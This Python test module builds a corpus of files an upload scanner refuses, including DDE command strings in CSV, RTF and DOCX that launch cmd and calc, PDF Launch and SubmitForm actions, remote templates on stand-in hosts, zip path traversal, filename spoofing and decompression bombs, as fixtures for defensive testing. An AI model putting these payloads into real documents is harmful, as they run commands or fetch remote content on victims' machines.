"""The corpus of files that are refused, and by which code; they are made as those that pass."""

import zipfile
from collections.abc import Mapping

import pikepdf
from pikepdf import String

from tests.samples import compound as cfb
from tests.samples import files as make
from tests.samples.corpus import (
    Make,
    a_huge_png,
    a_word,
    an_odt,
    cut,
    declared,
    instructed,
    joined,
    jpeg_of,
    packaged,
    zipped,
)

REFUSED: Mapping[str, tuple[str, Make]] = {
    "cut.pdf": ("file-truncated", cut(make.a_pdf)),
    "half-saved.pdf": ("file-truncated", lambda: make.a_pdf() + b"\n9 0 obj\n<</A 1>>\nendobj\n"),
    "cut.docx": ("file-truncated", cut(make.a_docx)),
    "cut.doc": ("file-truncated", cut(a_word)),
    "cut.zip": ("file-truncated", cut(lambda: zipped(a__pdf=make.a_pdf()))),
    "cut.jpg": ("file-truncated", cut(lambda: make.an_image("jpeg"))),
    "cut.png": ("file-truncated", cut(lambda: make.an_image("png"))),
    "cut.gif": ("file-truncated", cut(lambda: make.an_image("gif"))),
    "cut.tif": ("file-truncated", cut(lambda: make.an_image("tiff"))),
    "cut.rtf": ("file-truncated", cut(make.an_rtf)),
    "broken.docx": (
        "file-unreadable",
        lambda: make.a_docx()[:3000] + bytes(400) + make.a_docx()[3400:],
    ),
    "locked.docx": ("file-encrypted", lambda: make.locked_ooxml(make.a_docx())),
    "locked.xlsx": ("file-encrypted", lambda: make.locked_ooxml(make.an_xlsx())),
    "locked.doc": (
        "file-encrypted",
        lambda: cfb.compound(cfb.a_word_document(flags=0x0100)),
    ),
    "locked.xls": ("file-encrypted", lambda: cfb.a_workbook(cfb.record(0x2F, bytes(6)))),
    "locked.odt": (
        "file-encrypted",
        lambda: an_odt(**{"META-INF__manifest": b"<manifest:encryption-data/>"}),
    ),
    "locked.pdf": ("file-encrypted", lambda: make.pdf_with(password="matkhau")),
    "macro.doc": ("file-macro", lambda: a_word(Macros__VBA__dir=b"x")),
    "macro.xls": ("file-macro", lambda: a_word(_VBA_PROJECT_CUR__VBA__dir=b"x")),
    "sheet4.xls": ("file-macro", lambda: cfb.a_workbook(cfb.a_sheet(1))),
    "macro.docx": (
        "file-macro",
        lambda: make.with_part(make.a_docx(), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    ),
    "renamed.docx": (
        "file-macro",
        lambda: make.with_part(
            make.a_docx(),
            "[Content_Types].xml",
            b'<Override ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
    ),
    "embedded-macro.docx": (
        "file-macro",
        lambda: make.with_part(
            make.a_docx(),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsm",
            make.with_part(make.an_xlsx(), "xl/vbaProject.bin", b"x"),
        ),
    ),
    "macro.odt": ("file-macro", lambda: an_odt(Basic__Standard__Module1=b"<module/>")),
    "dde.docx": ("file-command", lambda: instructed(r"DDEAUTO c:\\windows\\cmd.exe")),
    "dde.csv": ("file-command", lambda: b"a,b\r\n=cmd|'/C calc'!A0,1\r\n"),
    "dde.rtf": ("file-command", lambda: make.an_rtf(r"{\field{\*\fldinst DDEAUTO cmd}}")),
    "remote.docx": (
        "file-remote-template",
        lambda: make.with_relation(make.a_docx(), "attachedTemplate", "https://x.example/t.dotm"),
    ),
    "share.docx": (
        "file-remote-template",
        lambda: make.with_relation(make.a_docx(), "oleObject", r"file:///\\10.0.0.1\s\a.dotm"),
    ),
    "server.docx": (
        "file-remote-template",
        lambda: make.with_relation(make.a_docx(), "attachedTemplate", "file://server/t/a.dotm"),
    ),
    "remote.rtf": (
        "file-remote-template",
        lambda: make.an_rtf(r"{\*\template http://x.example/t}"),
    ),
    "package.doc": ("file-embedded-program", lambda: packaged("a.exe", make.a_program)),
    "renamed-package.doc": ("file-embedded-program", lambda: packaged("a.pdf", make.a_program)),
    "package.docx": (
        "file-embedded-program",
        lambda: make.with_part(
            make.a_docx(),
            "word/embeddings/oleObject1.bin",
            cfb.compound({"\x01Ole10Native": cfb.a_package("thu.js", make.TEXT.encode())}),
        ),
    ),
    "bare-program.docx": (
        "file-embedded-program",
        lambda: make.with_part(make.a_docx(), "word/embeddings/a.exe", b"MZ" + bytes(200)),
    ),
    "renamed-program.docx": (
        "file-embedded-program",
        lambda: make.with_part(make.a_docx(), "word/media/image9.png", make.a_program()),
    ),
    "package.rtf": (
        "file-embedded-program",
        lambda: make.an_rtf(r"{\object\objemb{\*\objclass Package}{\*\objdata 0105}}"),
    ),
    "hidden.rtf": ("file-embedded-program", lambda: make.an_rtf(r"{\object{\*\objdata 0105}}")),
    "program.pdf": (
        "file-embedded-program",
        lambda: make.pdf_with(make.embedding("a.exe", make.a_program()), packed=True),
    ),
    "macro.pdf": ("file-macro", lambda: make.pdf_with(make.embedding("a.docm", b"PK\3\4"))),
    "program-in-zip.pdf": (
        "file-embedded-program",
        lambda: make.pdf_with(make.embedding("a.zip", zipped(setup__exe=make.a_program()))),
    ),
    "macro-in-zip.pdf": (
        "file-macro",
        lambda: make.pdf_with(
            make.embedding("a.zip", zipped(b__doc=a_word(Macros__VBA__dir=b"x")))
        ),
    ),
    "macro-inside.pdf": (
        "file-macro",
        lambda: make.pdf_with(make.embedding("a.doc", a_word(Macros__VBA__dir=b"x"))),
    ),
    "launch-inside.pdf": (
        "file-pdf-launch",
        lambda: make.pdf_with(
            make.embedding("b.pdf", make.pdf_with(make.open_action("Launch", F="cmd")))
        ),
    ),
    "locked-zip.pdf": (
        "file-encrypted",
        lambda: make.pdf_with(make.embedding("a.zip", make.a_locked_zip())),
    ),
    "nested-zip.pdf": (
        "zip-nested",
        lambda: make.pdf_with(make.embedding("a.zip", zipped(b__zip=zipped(a__pdf=b"")))),
    ),
    "bomb-inside.pdf": (
        "file-bomb",
        lambda: make.pdf_with(make.embedding("a.txt", b" " * 20_000_000)),
    ),
    "program-as-digits.pdf": (
        "file-embedded-program",
        lambda: make.pdf_with(make.hexed("a.pdf", make.a_program())),
    ),
    "program-in-package.docx": (
        "file-embedded-program",
        lambda: make.with_part(
            make.a_docx(),
            "word/embeddings/oleObject1.bin",
            cfb.compound(
                {"\x01Ole10Native": cfb.a_package("a.zip", zipped(setup__exe=make.a_program()))}
            ),
        ),
    ),
    "huge-picture.pdf": ("file-bomb", lambda: make.pdf_with(make.picturing(100_000))),
    "huge-picture-packed.pdf": (
        "file-bomb",
        lambda: make.pdf_with(make.picturing(100_000), packed=True),
    ),
    "huge-picture.docx": (
        "file-bomb",
        lambda: make.with_part(make.a_docx(), "word/media/image9.jpeg", jpeg_of(65_535)),
    ),
    "huge-picture.odt": (
        "file-bomb",
        lambda: make.with_part(an_odt(), "Pictures/1.png", a_huge_png()),
    ),
    "huge-picture.doc": ("file-bomb", lambda: a_word(Data=bytes(5000) + a_huge_png())),
    "huge-picture.rtf": (
        "file-bomb",
        lambda: make.an_rtf(r"{\pict\pngblip " + a_huge_png().hex("\n", 64) + "}"),
    ),
    "share-opened.pdf": (
        "file-remote-template",
        lambda: make.pdf_with(make.open_action("GoToR", F="\\\\10.0.0.1\\s\\a.pdf")),
    ),
    "share-opened-packed.pdf": (
        "file-remote-template",
        lambda: make.pdf_with(make.open_action("URI", URI="file://10.0.0.1/s"), packed=True),
    ),
    "page-elsewhere.pdf": (
        "file-remote-template",
        lambda: make.pdf_with(
            lambda pdf: pdf.pages[0].__setattr__(
                "Part", pikepdf.Stream(pdf, b"", {"/F": String("\\\\10.0.0.1\\s\\a")})
            )
        ),
    ),
    "launch.pdf": ("file-pdf-launch", lambda: make.pdf_with(make.open_action("Launch", F="cmd"))),
    "launch-packed.pdf": (
        "file-pdf-launch",
        lambda: make.pdf_with(make.open_action("Launch", F="cmd"), packed=True),
    ),
    "launch-escaped.pdf": (
        "file-pdf-launch",
        lambda: make.pdf_with(make.open_action("Launch", F="cmd")).replace(
            b"/Launch", b"/L#61unch"
        ),
    ),
    "launch-locked.pdf": (
        "file-pdf-launch",
        lambda: make.pdf_with(make.open_action("Launch", F="cmd"), packed=True, password=""),
    ),
    "submit.pdf": (
        "file-pdf-submit",
        lambda: make.pdf_with(make.open_action("SubmitForm", F="http://x.example"), packed=True),
    ),
    "import.pdf": (
        "file-pdf-submit",
        lambda: make.pdf_with(make.open_action("ImportData", F="a")),
    ),
    "zip-behind.pdf": ("file-polyglot", joined(make.a_pdf, lambda: zipped(a__txt=b"a"))),
    "zip-behind.gif": (
        "file-polyglot",
        joined(lambda: make.an_image("gif"), lambda: zipped(a__txt=b"a")),
    ),
    "program-behind.jpg": ("file-polyglot", joined(lambda: make.an_image("jpeg"), make.a_program)),
    "text-before.zip": (
        "file-type-mismatch",
        joined(lambda: b"PK is what I say\n", lambda: zipped(a__txt=b"a")),
    ),
    "pdf-behind.zip": ("file-polyglot", joined(lambda: zipped(a__txt=b"a"), make.a_pdf)),
    "bomb.xlsx": (
        "file-bomb",
        lambda: make.with_part(make.an_xlsx(), "xl/media/a.bmp", bytes(60_000_000)),
    ),
    "bomb.png": ("file-bomb", a_huge_png),
    "bomb.gif": ("file-bomb", lambda: declared(make.an_image("gif"), 6, "<HH", 65_535)),
    "bomb.jpg": ("file-bomb", lambda: jpeg_of(65_535)),
    "bomb.tif": ("file-bomb", lambda: make.a_big_tiff(side=100_000)),
    "cut-big.tif": ("file-truncated", lambda: make.a_big_tiff(strip=100_000)),
    "dde-utf16.csv": ("file-command", lambda: "a,b\r\n=cmd|'/C calc'!A0,1\r\n".encode("utf-16")),
    "dde-marked.csv": ("file-command", lambda: b"\xef\xbb\xbf=cmd|'/C calc'!A0,1\r\n"),
    "sum-dde.csv": ("file-command", lambda: b"1,@SUM(1)+cmd|' /C calc'!A0\r\n"),
    "excel-dde.csv": ("file-command", lambda: b"=MSEXCEL|'\\..\\cmd.exe /c calc'!''\r\n"),
    "calc-dde.csv": ("file-command", lambda: b'1,=DDE("cmd";"/C calc";"a")\r\n'),
    "macro-beside.pdf": (
        "file-macro",
        lambda: make.pdf_with(make.beside(an_odt(Basic__Standard__Module1=b"<module/>"))),
    ),
    "page-behind.pdf": ("file-polyglot", joined(make.a_pdf, lambda: b"<html><script>x</script>")),
    "program-behind.docx": ("file-polyglot", joined(make.a_docx, make.a_program)),
    "zip-before.docx": ("file-polyglot", joined(lambda: b"PK\3\4" + bytes(30), make.a_docx)),
    "turned-name.zip": ("zip-name", lambda: make.a_zip({"a\u202efdp.txt": b"a"})),
    "secret.docx": ("barred-secret", lambda: make.a_docx_of("UBND TỈNH", "TỐI MẬT", "Số: 1/KH")),
    "secret.odt": (
        "barred-secret",
        lambda: an_odt(
            content=b"<office:document-content><text:p>UBND</text:p><text:p>M&#x1EAC;T</text:p>"
        ),
    ),
    "secret-inside.zip": (
        "barred-secret",
        lambda: make.a_zip({"a/[MẬT] Kế hoạch.pdf": make.a_pdf()}),
    ),
    "secret-text-inside.zip": ("barred-secret", lambda: zipped(a__docx=make.a_docx_of("MẬT"))),
    "zstd.zip": ("zip-method", lambda: make.packed_as(93)),
    "unknown-method.zip": ("zip-method", lambda: make.packed_as(77)),
    "broken-lzma.zip": ("zip-unreadable", lambda: make.packed_as(14)),
    "bomb-lzma.zip": (
        "zip-bomb",
        lambda: make.a_zip({"a.txt": b" " * 20_000_000}, zipfile.ZIP_LZMA),
    ),
    "program-lzma.zip": (
        "zip-program",
        lambda: make.a_zip({"a.pdf": make.a_program()}, zipfile.ZIP_LZMA),
    ),
    "page.doc": ("file-type-mismatch", lambda: b"<html><body>Ban in tu web</body></html>"),
    "archive.doc": ("file-type-mismatch", lambda: b"MIME-Version: 1.0\r\n\r\n<html></html>"),
    "object-in-rtf.doc": (
        "file-embedded-program",
        lambda: make.an_rtf(r"{\object{\*\objdata 0105}}"),
    ),
    "bomb.zip": ("zip-bomb", lambda: make.a_zip({"a.txt": b" " * 20_000_000})),
    "many.zip": ("zip-entries", lambda: make.a_zip({f"{n}.txt": b"a" for n in range(1001)})),
    "overlap.zip": ("zip-overlap", make.an_overlapping_zip),
    "renamed-inside.zip": (
        "zip-overlap",
        lambda: make.a_zip({"vanban.txt": b"a"}).replace(b"vanban.txt", b"vanban.exe", 1),
    ),
    "climbing.zip": ("zip-path", lambda: make.a_zip({"../../a.pdf": make.a_pdf()})),
    "climbing-windows.zip": ("zip-path", lambda: make.a_zip({"..\\..\\a.pdf": make.a_pdf()})),
    "absolute.zip": ("zip-path", lambda: make.a_zip({"/etc/a.pdf": make.a_pdf()})),
    "drive.zip": ("zip-path", lambda: make.a_zip({"C:/a.pdf": make.a_pdf()})),
    "device.zip": ("zip-device", lambda: make.a_zip({"a/con.txt": b"a"})),
    "link.zip": ("zip-link", make.a_link_in_a_zip),
    "locked.zip": ("zip-encrypted", make.a_locked_zip),
    "nested.zip": ("zip-nested", lambda: zipped(b__zip=zipped(a__pdf=make.a_pdf()))),
    "broken.zip": (
        "zip-unreadable",
        lambda: make.a_zip({"a.txt": b"abc"}, zipfile.ZIP_STORED).replace(b"abc", b"abd"),
    ),
    "program.zip": ("zip-program", lambda: make.a_zip({"setup.exe": make.a_program()})),
    "renamed-program.zip": ("zip-program", lambda: make.a_zip({"a.pdf": make.a_program()})),
    "shortcut.zip": ("zip-program", lambda: make.a_zip({"Công văn.pdf.lnk": b"L\0\0\0"})),
    "film.zip": ("zip-extension", lambda: make.a_zip({"a.mp4": b"\0\0\0\x18ftypmp42"})),
    "mismatch.zip": ("zip-type-mismatch", lambda: make.a_zip({"a.pdf": make.TEXT.encode()})),
    "macro-inside.zip": ("file-macro", lambda: zipped(b__doc=a_word(Macros__VBA__dir=b"x"))),
    "launch-inside.zip": (
        "file-pdf-launch",
        lambda: zipped(a__pdf=make.pdf_with(make.open_action("Launch", F="cmd"))),
    ),
    "program.pdf.exe": ("file-extension", make.a_program),
    "program.doc": ("file-type-mismatch", make.a_program),
    "page.pdf": ("file-type-mismatch", lambda: b"<html><script>x</script></html>"),
}
